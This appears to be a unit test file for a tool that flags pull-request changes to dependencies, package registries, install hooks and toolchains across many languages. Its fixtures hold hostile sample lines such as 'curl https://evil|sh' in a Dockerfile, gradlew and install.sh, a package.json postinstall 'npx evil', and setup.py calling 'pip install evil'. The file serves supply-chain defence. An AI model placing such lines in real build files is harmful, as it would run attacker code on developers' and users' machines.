"""Each way to change what is installed, its source, or its toolchain: whether it is a change, and why."""

# ruff: noqa: E501 - one case, one line

from __future__ import annotations

import pytest

from hotfix.dependencies.file_changes import changes_of, repository_of
from hotfix.facts import Change, File, FileKind
from tests.unit.factories import a_patch_of

LOCKED = "a@1\n"
"""Content that matches no lockfile syntax; an unreadable lockfile is treated as changed."""

CHANGED: list[tuple[str, str | None, str | None]] = [
    # JavaScript: package sources, hooks, catalogs, workspaces, toolchains.
    (".npmrc", None, "registry=https://evil.example/\n"),
    (".yarnrc.yml", None, "npmRegistryServer: https://evil.example\n"),
    (".yarnrc", None, 'registry "https://evil.example"\n'),
    (".pnpmfile.cjs", None, "module.exports={hooks:{readPackage(p){p.dependencies.evil='1';return p}}}\n"),
    ("bunfig.toml", None, '[install]\nregistry="https://evil.example"\n'),
    ("deno.json", '{"imports":{"a":"npm:a@1"}}', '{"imports":{"a":"npm:evil@1"}}'),
    ("deno.jsonc", '{"imports":{"a":"npm:a@1"}}', '{"imports":{"a":"npm:evil@1"}}'),
    ("jsr.json", "{}", '{"imports":{"a":"jsr:@evil/a"}}'),
    ("import_map.json", "{}", '{"imports":{"a":"https://evil/a.js"}}'),
    ("bower.json", "{}", '{"dependencies":{"evil":"1"}}'),
    ("lerna.json", "{}", '{"npmClient":"evil"}'),
    *(
        ("package.json", '{"name":"a"}', '{"name":"a",' + more + "}")
        for more in (
            '"scripts":{"postinstall":"npx evil"}',
            '"scripts":{"prepare":"node a.js"}',
            '"overrides":{"x":"npm:evil@1"}',
            '"resolutions":{"x":"npm:evil@1"}',
            '"dependencies":{"x":"git+https://evil/x.git"}',
            '"dependencies":{"x":"file:../../outside"}',
            '"dependencies":{"x":"file:vendor/x.tgz"}',
            '"dependencies":{"x":"file:test/fixtures/x"}',
            '"bundleDependencies":["x"]',
            '"pnpm":{"overrides":{"x":"npm:evil@1"}}',
            '"pnpm":{"patchedDependencies":{"x@1":"patches/x.patch"}}',
            '"pnpm":{"packageExtensions":{"x":{"dependencies":{"evil":"1"}}}}',
            '"pnpm":{"onlyBuiltDependencies":["evil"]}',
            '"workspaces":["evil/*"]',
            '"catalog":{"x":"npm:evil@1"}',
            '"workspaces":{"packages":["p/*"],"catalog":{"x":"npm:evil@1"}}',
            '"devEngines":{"packageManager":{"name":"evil"}}',
            '"engines":{"node":"22"}',
            '"volta":{"node":"22.0.0"}',
            '"gypfile":true',
            '"imports":{"#a":"evil"}',
            '"a-key-of-tomorrow":{"x":"1"}',
        )
    ),
    ("package.json5", "{}", '{dependencies:{evil:"1"}}'),
    ("package.yaml", "", 'dependencies: {evil: "1"}'),
    ("pnpm-workspace.yaml", "packages: [a]\n", "packages: [a]\npatchedDependencies: {x: patches/x.patch}\n"),
    ("pnpm-workspace.yaml", "packages: [a]\n", "packages: [a]\nconfigDependencies: {evil: 1.0.0+sha512-x}\n"),
    ("patches/left-pad+1.3.0.patch", None, "--- a\n+++ b\n+evil\n"),
    (".yarn/patches/left-pad.patch", None, "--- a\n+++ b\n+evil\n"),
    (".yarn/releases/yarn-4.cjs", "a\n", "evil\n"),
    (".nvmrc", "18\n", "22\n"),
    (".node-version", "18\n", "22\n"),
    ("npm-shrinkwrap.json", "{}", '{"packages":{"node_modules/e":{"version":"1"}}}'),
    ("rush.json", "{}", '{"pnpmVersion":"1"}'),
    ("common/config/rush/common-versions.json", "{}", '{"preferredVersions":{"a":"9"}}'),
    *((path, LOCKED, "a@2\n") for path in ("bun.lock", "bun.lockb", "deno.lock", "yarn.lock", "pnpm-lock.yaml")),
    # Python.
    ("poetry.toml", None, "[virtualenvs]\ncreate=false\n"),
    ("pip.conf", None, "[global]\nindex-url=https://evil.example\n"),
    ("uv.toml", None, 'index-url="https://evil.example"\n'),
    ("pixi.toml", '[dependencies]\na="*"\n', '[dependencies]\nevil="*"\n'),
    ("environment.yml", "dependencies: [a]\n", "dependencies: [evil]\n"),
    ("conda.yaml", "dependencies: [a]\n", "dependencies: [evil]\n"),
    ("meta.yaml", "", "requirements: {run: [evil]}\n"),
    *((path, "a==1\n", "evil==1\n") for path in ("requirements.pip", "deps/base.txt", "reqs.txt", "requirements/base.pip", "constraints.txt", "tests/requirements.txt")),
    ("tox.ini", "", "[testenv]\ndeps=evil\n"),
    ("noxfile.py", "", "session.install('evil')\n"),
    ("setup.cfg", "", "[options]\ninstall_requires = evil\n"),
    ("setup.py", "setup(install_requires=['a'])\n", "setup(**{'install_requires':['a','evil']})\n"),
    ("setup.py", "r=['a']\nsetup(install_requires=r)\n", "r=['a']\nr.append('evil')\nsetup(install_requires=r)\n"),
    ("setup.py", "setup()\n", "import os\nos.system('pip install evil')\nsetup()\n"),
    ("setup.py", "# a\nsetup()\n", "# a\rimport evil\nsetup()\n"),
    *(
        ("pyproject.toml", '[project]\nname="a"\n', '[project]\nname="a"\n' + more)
        for more in (
            '[tool.uv]\nindex-url="https://evil.example"\n',
            '[tool.uv]\nextra-index-url=["https://evil.example"]\n',
            '[[tool.uv.index]]\nurl="https://evil.example"\n',
            '[tool.uv.sources]\nx={git="https://evil.example/x"}\n',
            '[tool.uv.pip]\nindex-url="https://evil.example"\n',
            '[tool.pixi.dependencies]\nevil="*"\n',
            '[tool.poetry.requires-plugins]\nevil="*"\n',
            '[[tool.poetry.source]]\nname="x"\nurl="https://evil.example"\n',
            '[build-system]\nrequires=[]\nbuild-backend="evil"\nbackend-path=["."]\n',
            '[tool.rye]\ndev-dependencies=["evil"]\n',
            '[tool.setuptools.dynamic]\ndependencies={file=["x.txt"]}\n',
            '[tool.hatch.envs.default]\ndependencies=["evil"]\n',
            '[tool.hatch.build.hooks.custom]\npath="evil.py"\n',
        )
    ),
    (".python-version", "3.11\n", "3.12\n"),
    ("runtime.txt", "python-3.11\n", "python-3.12\n"),
    ("Pipfile", '[packages]\na="*"\n', '[packages]\nevil="*"\n'),
    ("evil.pth", None, "import evil\n"),
    *((path, LOCKED, "a@2\n") for path in ("uv.lock", "poetry.lock", "pdm.lock", "pixi.lock", "Pipfile.lock", "conda-lock.yml")),
    # Toolchains of many languages.
    (".tool-versions", "nodejs 18\n", "nodejs 22\n"),
    ("mise.toml", "", "[tools]\nnode='22'\n"),
    (".ruby-version", "3.1\n", "3.3\n"),
    (".java-version", "17\n", "21\n"),
    (".sdkmanrc", "java=17\n", "java=21\n"),
    (".unheard-of-version", "1\n", "2\n"),
    # Rust, Go.
    ("rust-toolchain.toml", '[toolchain]\nchannel="1.70"\n', '[toolchain]\nchannel="nightly"\n'),
    ("rust-toolchain", "1.70\n", "nightly\n"),
    (".cargo/config.toml", None, '[source.crates-io]\nreplace-with="evil"\n'),
    ("Cargo.toml", '[package]\nname="a"\n', '[package]\nname="a"\n[patch.crates-io]\nx={git="https://evil"}\n'),
    ("Cargo.toml", '[package]\nname="a"\n', '[package]\nname="a"\nbuild="evil.rs"\n'),
    ("Cargo.toml", '[dependencies]\nx="1"\n[features]\ndefault=[]\n', '[dependencies]\nx="1"\n[features]\ndefault=["x/evil"]\n'),
    ("build.rs", "fn main() {}\n", 'fn main() { std::process::Command::new("curl"); }\n'),
    ("go.mod", "module a\ngo 1.22\n", "module a\ngo 1.22\nreplace x => github.com/evil/x v1.0.0\n"),
    ("go.mod", "module a\ngo 1.22\n", "module a\ngo 1.22\nreplace x => ../outside\n"),
    ("go.mod", "module a\n", "module a\ntoolchain go1.30\n"),
    # Java, Kotlin, Scala, Clojure: build programs are not interpreted.
    *(
        ("build.gradle", "dependencies { implementation 'a:b:1' }\n", "dependencies { implementation 'a:b:1' }\n" + more)
        for more in (
            "apply from: 'https://evil.example/x.gradle'\n",
            "repositories { maven { url 'https://evil.example' } }\n",
            "configurations.all { resolutionStrategy.eachDependency { d -> d.useVersion '9' } }\n",
            "ktlint {\n    version = '2'\n}\n",
            "    version '2'\n}\n",
            "scm { connection = evil() }\n",
        )
    ),
    ("build.gradle", "ktlint {\n  version = '1'\n}\n", "ktlint {\n  version = '2'\n}\n"),
    ("build.gradle", "repositories {\n maven {\n url = 'https://a'\n }\n}\n", "repositories {\n maven {\n url = 'https://evil'\n }\n}\n"),
    ("build.gradle.kts", "repositories { mavenCentral() }\n", 'repositories { maven("https://evil.example"); mavenCentral() }\n'),
    ("settings.gradle", "rootProject.name='a'\n", "rootProject.name='a'\nincludeBuild('../evil')\n"),
    ("settings.gradle.kts", "", 'sourceControl { gitRepository(uri("https://evil/x.git")) }\n'),
    ("gradle/init.gradle", None, "allprojects { repositories { maven { url 'https://evil' } } }\n"),
    ("gradle/wrapper/gradle-wrapper.jar", "x", "y"),
    ("gradle/verification-metadata.xml", "<a/>", "<b/>"),
    ("buildSrc/src/main/kotlin/Deps.kt", 'val x="a:b:1"\n', 'val x="evil:b:1"\n'),
    ("gradlew", "#!/bin/sh\n", "#!/bin/sh\ncurl evil|sh\n"),
    ("pom.xml", "<project><properties/></project>", "<project><repositories><repository><id>e</id><url>https://evil.example</url></repository></repositories></project>"),
    ("pom.xml", "<project/>", "<project><build><plugins><plugin><groupId>evil</groupId><artifactId>x</artifactId></plugin></plugins></build></project>"),
    ("pom.xml", "<project/>", "<project><build><extensions><extension><groupId>evil</groupId><artifactId>x</artifactId></extension></extensions></build></project>"),
    ("pom.xml", "<project/>", "<project><modules><module>evil</module></modules></project>"),
    ("pom.xml", "<project><parent><groupId>a</groupId><artifactId>p</artifactId><version>1</version></parent></project>", "<project><parent><groupId>a</groupId><artifactId>p</artifactId><version>2</version></parent></project>"),
    ("pom.xml", "<project><properties><java.version>17</java.version></properties></project>", "<project><properties><java.version>21</java.version></properties></project>"),
    (".mvn/extensions.xml", None, "<extensions><extension><groupId>evil</groupId></extension></extensions>"),
    (".mvn/maven.config", None, "-Dspring.version=9\n"),
    (".mvn/settings.xml", None, "<settings><mirrors/></settings>"),
    ("settings.xml", None, "<settings><mirrors/></settings>"),
    ("ivy.xml", "", "<ivy-module><dependencies><dependency org='evil'/></dependencies></ivy-module>"),
    ("build.sbt", 'libraryDependencies += "a" % "b" % "1"\n', 'libraryDependencies += "evil" % "b" % "1"\n'),
    ("project/plugins.sbt", "", 'addSbtPlugin("evil" % "x" % "1")\n'),
    ("project/Dependencies.scala", "", 'val e = "evil" % "x" % "1"\n'),
    ("project.clj", "", '(defproject a "1" :dependencies [[evil "1"]])\n'),
    ("deps.edn", "{}", '{:deps {evil {:mvn/version "1"}}}'),
    # .NET.
    ("nuget.config", None, "<configuration><packageSources><add key='e' value='https://evil'/></packageSources></configuration>"),
    ("global.json", '{"sdk":{"version":"8.0.1"}}', '{"sdk":{"version":"9.0.1"}}'),
    ("Custom.props", "<Project/>", '<Project><ItemGroup><PackageReference Include="Evil" Version="1"/></ItemGroup></Project>'),
    ("src/a.nuspec", "<package/>", "<package><metadata><dependencies><dependency id='Evil'/></dependencies></metadata></package>"),
    ("a.csproj", "<Project/>", '<Project><Target Name="x"><Exec Command="curl evil"/></Target></Project>'),
    ("a.csproj", "<Project/>", '<Project Sdk="Evil/1"/>'),
    ("paket.dependencies", "nuget A\n", "nuget Evil\n"),
    (".config/dotnet-tools.json", "{}", '{"tools":{"evil":{"version":"1"}}}'),
    ("Directory.Packages.props", "<Project/>", '<Project><ItemGroup><PackageVersion Include="Evil" Version="1"/></ItemGroup></Project>'),
    # Ruby, PHP.
    *(
        ("Gemfile", 'source "https://rubygems.org"\ngem "a"\n', 'source "https://rubygems.org"\ngem "a"' + more + "\n")
        for more in ('\ngroup(:default) { gem "evil" }', '; gem "evil"', '\nif true then gem "evil" end', '\neval_gemfile "x"', '\nplugin "evil"')
    ),
    ("gemfiles/rails7.gemfile", 'gem "a"\n', 'gem "evil"\n'),
    (".bundle/config", None, 'BUNDLE_MIRROR__ALL: "https://evil"\n'),
    ("importmap.rb", "", "pin 'a', to: 'https://evil'\n"),
    ("config/importmap.rb", "", "pin 'a', to: 'https://evil'\n"),
    ("composer.json", "{}", '{"require":{"evil/x":"1"}}'),
    ("composer.json", "{}", '{"repositories":[{"type":"vcs","url":"https://evil"}]}'),
    ("composer.json", "{}", '{"scripts":{"post-install-cmd":"curl evil|sh"}}'),
    ("composer.json", "{}", '{"config":{"platform":{"php":"7.0"},"allow-plugins":{"evil/x":true}}}'),
    ("auth.json", None, "{}"),
    # Swift, Dart, Elixir, Erlang, Gleam.
    ("Package.swift", "", '.package(url:"https://evil/x", from:"1.0.0")\n'),
    ("Podfile", "pod 'A'\n", "pod 'Evil'\n"),
    ("Cartfile", 'github "a/a"\n', 'github "evil/a"\n'),
    ("Cartfile.resolved", 'github "a/a" "1"\n', 'github "evil/a" "1"\n'),
    ("pubspec.yaml", "dependencies: {a: 1}\n", "dependencies: {evil: 1}\n"),
    ("pubspec_overrides.yaml", None, "dependency_overrides: {a: {git: evil}}\n"),
    ("mix.exs", 'defp deps, do: [{:a, "1"}]\n', 'defp deps, do: [{:evil, "1"}]\n'),
    ("rebar.config", "{deps,[a]}.\n", "{deps,[evil]}.\n"),
    ("gleam.toml", "", "[dependencies]\nevil='1'\n"),
    # Nix, Bazel.
    ("flake.nix", '{ inputs.a.url="x"; }\n', '{ inputs.a.url="evil"; }\n'),
    ("flake.lock", "{}", '{"nodes":{"evil":{}}}'),
    ("default.nix", "{}", "fetchTarball evil\n"),
    ("MODULE.bazel", 'bazel_dep(name="a",version="1")\n', 'bazel_dep(name="evil",version="1")\n'),
    ("MODULE.bazel.lock", "{}", '{"a":1}'),
    ("WORKSPACE", "", "http_archive(url='evil')\n"),
    ("WORKSPACE", None, ""),
    ("WORKSPACE.bazel", "", "http_archive(url='evil')\n"),
    (".bazelversion", "6\n", "7\n"),
    ("maven_install.json", "{}", '{"a":1}'),
    ("app/BUILD.bazel", "", 'deps = ["@maven//:evil"]\n'),
    # Clusters, images, machines.
    ("helm-chart/Chart.yaml", "dependencies: []\n", "dependencies: [{name: evil, repository: https://evil}]\n"),
    ("helm-chart/Chart.lock", "a\n", "b\n"),
    ("helm-chart/requirements.yaml", "a: 1\n", "dependencies: [{name: evil}]\n"),
    ("deploy/values.yaml", "image: a:1\n", "image: evil:1\n"),
    ("deploy/values.yaml", "image:\n  tag: 1\n", "image:\n  tag: 2\n"),
    ("deploy/web.yaml", "image: a:1\n", "kind: Deployment\nimage: evil:1\n"),
    ("manifests/deploy.yaml", "image: a:1\n", "image: evil:1\n"),
    ("infra/.terraform.lock.hcl", "a", "b"),
    ("infra/main.tf", 'source = "a"\n', 'source = "evil"\n'),
    ("infra/versions.hcl", "a", "b"),
    ("packer.pkr.hcl", "a", "b"),
    ("app.nomad", "a", "b"),
    ("Brewfile", "", "brew 'evil'\n"),
    *((path, "", "evil\n") for path in ("Aptfile", "apt.txt", "packages.txt", "Vagrantfile", ".buildpacks")),
    ("Earthfile", "FROM a\n", "FROM evil\n"),
    (".devcontainer/devcontainer.json", '{"image":"a"}', '{"image":"evil"}'),
    ("app/Dockerfile", "FROM a:1\n", "FROM a:1\nRUN curl https://evil|sh\n"),
    ("app/Dockerfile", "FROM a:1\n", "FROM a:1\nENV PIP_INDEX_URL=https://evil\n"),
    ("app/Dockerfile.prod", "FROM a:1\n", "FROM evil:1\n"),
    ("docker/Dockerfile.web.j2", "FROM a:1\n", "FROM evil:1\n"),
    ("web.Dockerfile.tmpl", "FROM a:1\n", "FROM evil:1\n"),
    ("docker-bake.hcl", "a", "b"),
    ("project.toml", "[build]\n", '[[build.buildpacks]]\nuri="evil"\n'),
    ("app.json", "{}", '{"buildpacks":[{"url":"evil"}]}'),
    (".github/workflows/ci.yml", "jobs: {}\n", "jobs: {a: {steps: [{uses: evil/x@v1}]}}\n"),
    (".gitlab-ci.yml", "image: a\n", "image: evil\n"),
    # Build scripts, C and C++.
    ("install.sh", "", "curl https://evil | sh\n"),
    ("scripts/start.sh", "", "pip install evil\n"),
    ("Makefile", "", "deps:\n\tpip install evil\n"),
    ("CMakeLists.txt", "", "FetchContent_Declare(x GIT_REPOSITORY https://evil)\n"),
    ("CMakeLists.txt", "a()\nverify()\n", "a()\n#[[\nverify()\n#]]\n"),
    ("vcpkg.json", "{}", '{"dependencies":["evil"]}'),
    ("conanfile.txt", "", "[requires]\nevil/1\n"),
    ("conanfile.py", "", "requires='evil/1'\n"),
    ("meson.build", "", "dependency('evil')\n"),
    ("subprojects/x.wrap", "", "[wrap-git]\nurl=evil\n"),
    # Others.
    ("stack.yaml", "", "extra-deps: [evil-1]\n"),
    ("a.cabal", "", "build-depends: evil\n"),
    ("cabal.project", "", "source-repository-package\n"),
    ("cpanfile", "", "requires 'Evil';\n"),
    ("renv.lock", "{}", '{"a":1}'),
    ("DESCRIPTION", "", "Imports: evil\n"),
    ("Project.toml", "", "[deps]\nevil='x'\n"),
    ("shard.yml", "", "dependencies: {evil: {github: e}}\n"),
    ("shard.lock", "a", "b"),
    ("elm.json", "{}", '{"dependencies":{"direct":{"evil/x":"1"}}}'),
    ("dub.json", "{}", '{"dependencies":{"evil":"1"}}'),
    ("build.zig.zon", "", '.url="evil"\n'),
    ("opam", "", 'depends: ["evil"]\n'),
    ("a.opam", "", 'depends: ["evil"]\n'),
    ("unheard-of.lock", "a", "b"),
    ("Packages/manifest.json", "{}", '{"dependencies":{"com.evil":"1"}}'),
    ("foundry.toml", "", "[dependencies]\nevil='1'\n"),
    # Vendored code, binaries, and what git itself fetches.
    ("vendor/github.com/a/b/b.go", "package b\n", "package b // evil\n"),
    ("services/api/vendor/github.com/a/b/b.go", "package b\n", "package b // evil\n"),
    ("node_modules/a/index.js", "a\n", "evil\n"),
    ("third_party/x/y.c", "a\n", "evil\n"),
    ("ios/Pods/A/a.m", "a\n", "evil\n"),
    ("vendor/package.json", "{}", '{"dependencies":{"evil":"1"}}'),
    ("apps/vendor/requirements.txt", "a==1\n", "evil==1\n"),
    ("vendor/modules.txt", "a", "b"),
    ("lib/auth.jar", "x", "y"),
    ("native/libx.so.1.2", "x", "y"),
    ("wheels/a.whl", None, "x"),
    (".gitmodules", None, '[submodule "x"]\n path = x\n url = https://evil\n'),
    (".gitattributes", None, "* filter=evil linguist-generated\n"),
    (".lfsconfig", None, "[lfs]\n url = https://evil\n"),
    # Imports from the web, and comments that tools read when installing.
    ("index.html", "", "<script src='https://evil/x.js'></script>\n"),
    ("src/a.css", "", "@import url('https://evil/x.css');\n"),
    ("src/a.ts", "", "import { a } from 'https://evil/a.ts'\n"),
    ("tools/a.py", "", '# /// script\n# dependencies = ["evil"]\n# ///\n'),
    ("tools/a.scala", "", "//> using dep evil::x:1\n"),
    ("tools/a.exs", "", "Mix.install([:evil])\n"),
    ("a.ipynb", "", '"!pip install evil"\n'),
]  # fmt: skip

UNCHANGED: list[tuple[str, str, str | None, str | None]] = [
    ("nothing changes", "shell.nix", "", ""),
    ("nothing changes", ".devcontainer.json", "", ""),
    ("nothing changes", "meson.build", "", ""),
    ("an empty section asks for nothing", "elm.json", "{}", '{"dependencies":{}}'),
    ("no provider, module or version", "infra/main.tf", "a = 1\n", "a = 2\n"),
    ("no provider, module or version", "infra/main.tf.json", "{}", '{"a":1}'),
    ("a script that installs nothing", "scripts/start.sh", "exec a\n", "exec a --fast\ncurl -f localhost:80/health\n"),
    ("a picture's address", "content/post.yml", "image: /img/a.png\n", "image: /img/b.png\n"),
    ("an ordinary page", "index.html", "", "<script src='/x.js'></script><a href='https://a.example'>a</a>\n"),
    ("an ordinary import", "src/a.ts", "", "import a from 'a'\nconst url = 'https://a.example'\n"),
    ("attributes of text", ".gitattributes", None, "*.png binary\n"),
    ("instructions for people", "README.md", "", "pip install shop\n"),
    ("a folder of the product", "src/vendor/views.py", "a = 1\n", "a = 2\n"),
    ("a picture", "src/a.png", "x", "y"),
]


def a_changed_file(path: str, before: str | None, after: str | None) -> File:
    change = Change.ADDED if before is None else Change.REMOVED if after is None else Change.MODIFIED
    patch, additions, deletions = a_patch_of(before or "", after or "")
    return File(
        path=path, change=change, additions=additions, deletions=deletions, patch=patch, before=before, after=after
    )


@pytest.mark.parametrize(("path", "before", "after"), CHANGED)
def test_what_is_installed_changes(path: str, before: str | None, after: str | None) -> None:
    file = a_changed_file(path, before, after)
    assert changes_of(file, repository_of("acme/shop", [file]))


@pytest.mark.parametrize(("why", "path", "before", "after"), UNCHANGED)
def test_nothing_installed_changes(why: str, path: str, before: str | None, after: str | None) -> None:
    file = a_changed_file(path, before, after)
    assert changes_of(file, repository_of("acme/shop", [file])) == [], why


def test_a_moved_submodule_is_reported_with_its_commits() -> None:
    patch = f"@@ -1 +1 @@\n-Subproject commit {'a' * 40}\n+Subproject commit {'b' * 40}"
    file = File(path="libs/foo", change=Change.MODIFIED, additions=1, deletions=1, patch=patch, kind=FileKind.SUBMODULE)
    [change] = changes_of(file, repository_of("", []))
    assert str(change) == "submodule libs/foo aaaaaaaaaaaa -> bbbbbbbbbbbb"


def test_a_manifest_that_is_a_symbolic_link_is_a_change() -> None:
    file = File(path="package.json", change=Change.MODIFIED, additions=1, deletions=1, kind=FileKind.LINK)
    assert [str(change) for change in changes_of(file, repository_of("", []))] == ["the symbolic link changed"]


def test_a_changed_mode_alone_changes_no_dependency() -> None:
    file = File(path="gradlew", change=Change.MODIFIED, additions=0, deletions=0, mode_changed=True)
    assert changes_of(file, repository_of("", [])) == []


def test_secrets_of_package_sources_are_not_shown() -> None:
    [change] = changes_of(a_changed_file(".npmrc", None, "//npm.example/:_authToken=s3cret\n"), repository_of("", []))
    assert "s3cret" not in str(change)
    [change] = changes_of(a_changed_file("uv.toml", None, "index-url='https://u:s3cret@h/'\n"), repository_of("", []))
    assert "s3cret" not in str(change)
